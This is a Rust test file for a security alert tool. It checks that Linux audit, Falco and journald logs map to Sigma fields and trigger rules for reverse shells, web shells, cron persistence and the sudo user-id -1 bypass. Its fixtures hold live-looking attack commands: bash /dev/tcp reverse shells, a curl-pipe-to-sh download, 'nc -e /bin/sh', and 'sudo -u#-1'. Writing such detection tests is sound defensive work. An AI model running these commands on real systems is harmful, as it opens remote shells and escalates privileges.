//! Linux process events from auditd, Falco and journald mapped onto Sigma's process
//! fields, and the project's Linux rules meeting them.

use serde_json::{Value, json};
use soc_core::Alert;
use soc_core::alert::Limits;

use super::*;

fn alert(raw: &Value) -> Alert {
    Alert::from_json(
        &json!({"alert_id": "LX-1", "timestamp": "2026-05-15T13:02:27Z", "source": "edr",
                "severity": "high", "title": "Linux process event", "raw_log": raw})
        .to_string(),
        &Limits::default(),
    )
    .expect("alert")
}

/// Titles of the project's Linux rules an alert's events meet.
fn linux_titles(raw: &Value) -> Vec<String> {
    RuleSet::embedded()
        .match_alert(&alert(raw))
        .into_iter()
        .filter(|m| m.rule.logsource.product.as_deref() == Some("linux"))
        .map(|m| m.rule.title.clone())
        .collect()
}

const REVERSE_SHELL: &str = "Interactive Shell Bound To A Network Socket";
const WEB_SHELL: &str = "Linux Web Or Application Server Starts An Interactive Or Networked Shell";
const CRON_CLI: &str = "Cron Job Written From The Command Line";
const CRON_SERVICE: &str = "Cron Job Installed By A Web Or Service Account";
const SUDO_MINUS_ONE: &str = "Sudo Asked To Run A Command As User Id -1";

fn has(titles: &[String], want: &str) -> bool {
    titles.iter().any(|t| t == want)
}

/// auditd records of one execution under a web server (objects, as shipped in JSON).
fn auditd_web_exec(args: &[&str], parent: &str) -> Value {
    let mut execve = json!({"type": "EXECVE", "argc": args.len().to_string()});
    for (i, a) in args.iter().enumerate() {
        execve[format!("a{i}")] = json!(a);
    }
    json!({"log_source": "auditd", "node": "web-1", "records": [
        {"type": "SYSCALL", "msg": "audit(1778850147.221:90211)", "syscall": "execve",
         "success": "yes", "exe": "/usr/bin/bash", "ppid": "2214", "pid": "30991",
         "auid": "4294967295", "uid": "33", "comm": "bash", "key": "exec"},
        execve,
        {"type": "CWD", "cwd": "/var/www/html/uploads"},
        {"type": "PARENT", "ppid": "2214", "pexe": parent}
    ]})
}

#[test]
fn auditd_records_give_the_process_fields_and_a_linux_process_creation_source() {
    let raw = auditd_web_exec(
        &["bash", "-c", "bash -i >& /dev/tcp/192.0.2.55/4444 0>&1"],
        "/usr/sbin/php-fpm8.1",
    );
    let events = Event::from_alert(&alert(&raw));
    assert_eq!(events.len(), 1);
    let ev = &events[0];
    for (k, want) in [
        ("Image", "/usr/bin/bash"),
        (
            "CommandLine",
            "bash -c bash -i >& /dev/tcp/192.0.2.55/4444 0>&1",
        ),
        ("ParentImage", "/usr/sbin/php-fpm8.1"),
        ("User", "33"),
        ("CurrentDirectory", "/var/www/html/uploads"),
        ("ProcessId", "30991"),
        ("ParentProcessId", "2214"),
        ("a0", "bash"),
        ("exe", "/usr/bin/bash"),
        ("Computer", "web-1"),
    ] {
        assert_eq!(ev.get(k), Some(want), "{k}");
    }
    assert!(ev.lower_values("type").any(|t| t == "execve"));
    let ls = ev.logsource();
    assert_eq!(ls.product.as_deref(), Some("linux"));
    assert_eq!(ls.category.as_deref(), Some("process_creation"));
    assert_eq!(ls.service.as_deref(), Some("auditd"));
    let titles = linux_titles(&raw);
    assert!(has(&titles, REVERSE_SHELL), "{titles:?}");
    assert!(has(&titles, WEB_SHELL), "{titles:?}");
}

#[test]
fn auditd_text_with_hex_arguments_and_several_executions_gives_one_event_each() {
    // audit.log text: an argument with spaces is hex-encoded (unquoted), `uid` 0 is root,
    // the enriched `UID` name wins over the number.
    let hex = |s: &str| s.bytes().map(|b| format!("{b:02X}")).collect::<String>();
    let cmd = "curl -fsSL http://198.51.100.9/x.sh | sh";
    let text = format!(
        "type=SYSCALL msg=audit(1700000000.100:501): arch=c000003e syscall=59 success=yes exit=0 ppid=900 pid=901 auid=1000 uid=0 comm=\"bash\" exe=\"/usr/bin/bash\" key=\"exec\"\x1dUID=\"root\" AUID=\"alice\"\n\
         type=EXECVE msg=audit(1700000000.100:501): argc=3 a0=\"bash\" a1=\"-c\" a2={}\n\
         type=CWD msg=audit(1700000000.100:501): cwd=\"/root\"\n\
         type=SYSCALL msg=audit(1700000001.200:502): arch=c000003e syscall=59 success=yes exit=0 ppid=900 pid=905 auid=1000 uid=1000 comm=\"ls\" exe=\"/usr/bin/ls\"\n\
         type=EXECVE msg=audit(1700000001.200:502): argc=2 a0=\"ls\" a1=\"-la\"",
        hex(cmd)
    );
    let raw =
        json!({"log_source": "auditd", "host": "app-2", "lines": text.lines().collect::<Vec<_>>()});
    let events = Event::from_alert(&alert(&raw));
    assert_eq!(events.len(), 2, "one event per audit serial");
    assert_eq!(
        events[0].get("CommandLine"),
        Some(format!("bash -c {cmd}").as_str())
    );
    assert_eq!(events[0].get("Image"), Some("/usr/bin/bash"));
    assert_eq!(events[0].get("User"), Some("root"));
    assert_eq!(events[0].get("CurrentDirectory"), Some("/root"));
    assert_eq!(events[1].get("CommandLine"), Some("ls -la"));
    assert_eq!(events[1].get("User"), Some("1000"));
    assert_eq!(
        events[1].get("CurrentDirectory"),
        None,
        "records stay with their execution"
    );
    assert!(has(
        &linux_titles(&raw),
        "Remote Script Piped Straight Into A Shell"
    ));
    // The same in one message string (a SIEM's raw event), and a long argument in pieces.
    let one = json!({"message": "type=EXECVE msg=audit(1.1:7): argc=2 a0=\"sh\" a1_len=12 a1[0]=2F6465762F \
        a1[1]=7463702F31 a1[2]=2F32", "host": "h"});
    let ev = &Event::from_alert(&alert(&one))[0];
    assert_eq!(ev.get("CommandLine"), Some("sh /dev/tcp/1/2"));
    assert_eq!(ev.logsource().category.as_deref(), Some("process_creation"));
    // A plain argument that merely looks like hex stays as written.
    let plain = json!({"records": [{"type": "SYSCALL", "exe": "/usr/bin/echo"},
        {"type": "EXECVE", "argc": "2", "a0": "echo", "a1": "deadbeef"}]});
    let ev = &Event::from_alert(&alert(&plain))[0];
    assert_eq!(ev.get("CommandLine"), Some("echo deadbeef"));
}

#[test]
fn laurel_and_go_audit_shapes_map_too() {
    let laurel = json!({"SYSCALL": {"syscall": "execve", "exe": "/usr/bin/nc.openbsd", "uid": 0,
            "PPID": {"comm": "bash", "exe": "/usr/bin/bash"}},
        "EXECVE": {"argc": 4, "ARGV": ["nc", "-e", "/bin/sh", "198.51.100.7"]},
        "PROCTITLE": {"ARGV": ["nc", "-e", "/bin/sh", "198.51.100.7"]}});
    let ev = Event::from_value(&laurel);
    assert_eq!(ev.get("Image"), Some("/usr/bin/nc.openbsd"));
    assert_eq!(ev.get("CommandLine"), Some("nc -e /bin/sh 198.51.100.7"));
    assert_eq!(ev.get("ParentImage"), Some("/usr/bin/bash"));
    assert_eq!(ev.get("User"), Some("root"));
    assert_eq!(ev.logsource().product.as_deref(), Some("linux"));
    let go_audit = json!({"sequence": 9, "messages": [
        {"type": 1300, "data": "arch=c000003e syscall=59 success=yes ppid=1 pid=2 uid=0 exe=\"/usr/bin/bash\""},
        {"type": 1309, "data": "argc=3 a0=\"bash\" a1=\"-c\" a2=\"bash -i >& /dev/tcp/203.0.113.9/9001 0>&1\""}]});
    let titles = linux_titles(&go_audit);
    assert!(has(&titles, REVERSE_SHELL), "{titles:?}");
}

#[test]
fn falco_output_fields_give_the_process_fields_and_meet_the_cron_rules() {
    let raw = json!({"log_source": "falco", "rule": "Schedule Cron Jobs", "priority": "Warning",
        "output": "Cron jobs were scheduled to run (user=root command=crontab -e)",
        "output_fields": {"proc.cmdline": "crontab /tmp/.c", "proc.pname": "sh",
            "proc.aname[2]": "redis-server", "user.name": "redis", "container.id": "host",
            "fd.name": "/var/spool/cron/crontabs/root"},
        "hostname": "cache-02"});
    let ev = &Event::from_alert(&alert(&raw))[0];
    for (k, want) in [
        ("CommandLine", "crontab /tmp/.c"),
        ("ParentImage", "sh"),
        ("User", "redis"),
        ("TargetFilename", "/var/spool/cron/crontabs/root"),
    ] {
        assert_eq!(ev.get(k), Some(want), "{k}");
    }
    assert_eq!(ev.logsource().product.as_deref(), Some("linux"));
    assert_eq!(ev.logsource().category.as_deref(), Some("process_creation"));
    let titles = linux_titles(&raw);
    assert!(has(&titles, CRON_SERVICE), "{titles:?}");
    assert!(has(&titles, CRON_CLI), "{titles:?}");
    // Redis itself writing the spool file (CONFIG SET dir; SAVE), with full paths.
    let save = json!({"output_fields": {"proc.exepath": "/usr/bin/redis-server",
        "proc.cmdline": "redis-server *:6379", "proc.pexepath": "/usr/lib/systemd/systemd",
        "user.name": "redis", "fd.name": "/var/spool/cron/root", "evt.type": "openat"}});
    let ev = &Event::from_alert(&alert(&save))[0];
    assert_eq!(ev.get("Image"), Some("/usr/bin/redis-server"));
    assert_eq!(ev.get("ParentImage"), Some("/usr/lib/systemd/systemd"));
    assert_eq!(
        ev.logsource().category,
        None,
        "a write, not a process start"
    );
    assert!(has(&linux_titles(&save), CRON_SERVICE));
    // A web server child wired to a socket, seen by Falco.
    let web = json!({"output_fields": {"proc.exepath": "/usr/bin/dash", "proc.name": "sh",
        "proc.cmdline": "sh -c id", "proc.pname": "apache2", "proc.pcmdline": "apache2 -k start",
        "user.name": "www-data"}});
    let ev = &Event::from_alert(&alert(&web))[0];
    assert_eq!(ev.get("ParentCommandLine"), Some("apache2 -k start"));
    assert!(has(&linux_titles(&web), WEB_SHELL));
}

#[test]
fn journald_sudo_lines_give_one_event_each_and_user_id_minus_one_is_caught() {
    let raw = json!({"log_source": "journald", "_HOSTNAME": "ci-runner-05", "SYSLOG_IDENTIFIER": "sudo",
    "entries": [
        {"MESSAGE": "  deploy : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash"},
        {"MESSAGE": "  deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=#-1 ; COMMAND=/usr/bin/vi /etc/motd"},
        {"MESSAGE": "pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1001)"}
    ]});
    let events = Event::from_alert(&alert(&raw));
    assert_eq!(events.len(), 3);
    let denied = &events[0];
    assert_eq!(denied.get("CommandLine"), Some("/bin/bash"));
    assert_eq!(denied.get("User"), Some("root"));
    assert_eq!(denied.get("SudoUser"), Some("deploy"));
    assert_eq!(denied.get("SudoReason"), Some("user NOT in sudoers"));
    let bypass = &events[1];
    for (k, want) in [
        ("Image", "/usr/bin/vi"),
        ("CommandLine", "/usr/bin/vi /etc/motd"),
        ("User", "#-1"),
        ("SudoUser", "deploy"),
        ("CurrentDirectory", "/home/deploy"),
        ("SYSLOG_IDENTIFIER", "sudo"),
    ] {
        assert_eq!(bypass.get(k), Some(want), "{k}");
    }
    assert_eq!(bypass.logsource().service.as_deref(), Some("sudo"));
    assert_eq!(
        bypass.logsource().category.as_deref(),
        Some("process_creation")
    );
    assert_eq!(events[2].get("CommandLine"), None);
    assert_eq!(events[2].logsource().product.as_deref(), Some("linux"));
    assert!(has(&linux_titles(&raw), SUDO_MINUS_ONE));
    // A syslog line, the unsigned id, and the command-line form.
    let syslog = json!({"log_source": "syslog", "program": "sudo", "message":
        "May 17 15:44:40 ci-5 sudo:   deploy : TTY=pts/1 ; PWD=/tmp ; USER=#4294967295 ; COMMAND=/bin/sh"});
    assert!(has(&linux_titles(&syslog), SUDO_MINUS_ONE));
    let cli = json!({"event_type": "process_creation", "image": "/usr/bin/sudo",
        "command_line": "sudo -u#-1 /bin/bash"});
    assert!(has(&linux_titles(&cli), SUDO_MINUS_ONE));
}

#[test]
fn admin_look_alikes_meet_no_attack_rule() {
    // A normal sudo to root to restart a service.
    let sudo = json!({"log_source": "journald", "SYSLOG_IDENTIFIER": "sudo", "MESSAGE":
        "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx"});
    let ev = &Event::from_alert(&alert(&sudo))[0];
    assert_eq!(
        ev.get("CommandLine"),
        Some("/usr/bin/systemctl restart nginx")
    );
    assert!(linux_titles(&sudo).is_empty(), "{:?}", linux_titles(&sudo));
    // sudo -u to another real account.
    let other = json!({"event_type": "process_creation", "image": "/usr/bin/sudo",
        "command_line": "sudo -u postgres psql -c 'select 1'"});
    assert!(linux_titles(&other).is_empty());
    // Puppet dropping a cron file under its own agent (auditd file watch).
    let puppet = json!({"log_source": "auditd", "key": "cron", "records": [
        {"type": "SYSCALL", "syscall": "openat", "exe": "/opt/puppetlabs/puppet/bin/ruby",
         "comm": "puppet", "uid": "0", "auid": "4294967295", "success": "yes"},
        {"type": "PATH", "name": "/etc/cron.d/pg_logrotate", "nametype": "CREATE"}]});
    let ev = &Event::from_alert(&alert(&puppet))[0];
    assert_eq!(ev.get("TargetFilename"), Some("/etc/cron.d/pg_logrotate"));
    assert_eq!(ev.get("User"), Some("root"));
    assert_eq!(ev.logsource().category, None);
    assert!(
        linux_titles(&puppet).is_empty(),
        "{:?}",
        linux_titles(&puppet)
    );
    // Ansible's cron module installing the table it built in /tmp.
    let ansible = json!({"output_fields": {"proc.exepath": "/usr/bin/crontab",
        "proc.cmdline": "crontab /tmp/crontab7x2k9q", "proc.pexepath": "/usr/bin/python3.10",
        "proc.pcmdline": "python3 /root/.ansible/tmp/ansible-tmp-1700000000.8812-4410-2290/AnsiballZ_cron.py",
        "user.name": "root"}});
    assert!(
        linux_titles(&ansible).is_empty(),
        "{:?}",
        linux_titles(&ansible)
    );
    // The same crontab from /tmp without the module is still caught.
    let bare = json!({"output_fields": {"proc.exepath": "/usr/bin/crontab",
        "proc.cmdline": "crontab /tmp/crontab7x2k9q", "proc.pexepath": "/usr/bin/bash",
        "user.name": "root"}});
    assert!(has(&linux_titles(&bare), CRON_CLI));
    // root (an administrator) installing a crontab is not a service account's.
    let root =
        json!({"output_fields": {"proc.cmdline": "crontab /root/jobs.txt", "user.name": "root"}});
    assert!(!has(&linux_titles(&root), CRON_SERVICE));
    // A service account only listing its table.
    let list = json!({"output_fields": {"proc.cmdline": "crontab -l", "user.name": "www-data"}});
    assert!(linux_titles(&list).is_empty());
    // PHP's mail() through sh, and a web app converting an image.
    for cmd in [
        &["sh", "-c", "/usr/sbin/sendmail -t -i"][..],
        &[
            "sh",
            "-c",
            "convert /var/www/up/a.png -resize 200x200 /var/www/up/a_t.png",
        ][..],
    ] {
        let raw = auditd_web_exec(cmd, "/usr/sbin/php-fpm8.1");
        assert!(
            linux_titles(&raw).is_empty(),
            "{cmd:?}: {:?}",
            linux_titles(&raw)
        );
    }
    // An interactive shell from a login session, not a server.
    let raw = auditd_web_exec(&["bash", "-i"], "/usr/sbin/sshd");
    assert!(linux_titles(&raw).is_empty());
}

#[test]
fn linux_shapes_leave_other_alerts_alone() {
    // A Windows event list with a message field is not split or given Linux fields.
    let raw = json!({"log_source": "windows_eventlog", "events": [
        {"provider": "Microsoft-Windows-Security-Auditing", "channel": "Security", "event_id": 4688,
         "event_data": {"NewProcessName": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd /c whoami"},
         "message": "A new process has been created."}]});
    let events = Event::from_alert(&alert(&raw));
    assert_eq!(events.len(), 1);
    assert_eq!(events[0].logsource().product.as_deref(), Some("windows"));
    assert_eq!(events[0].get("SudoUser"), None);
    // Existing fields win over derived ones.
    let both = json!({"CommandLine": "given", "output_fields": {"proc.cmdline": "derived"}});
    assert_eq!(Event::from_value(&both).get("CommandLine"), Some("given"));
    // A line that only resembles sudo's is not read as one.
    for line in [
        "user : USER=root",
        "COMMAND=/bin/sh",
        "note: TTY=x ; USER=root ; COMMAND=/bin/sh",
    ] {
        assert!(fields::linux::sudo(line).is_none(), "{line}");
    }
}
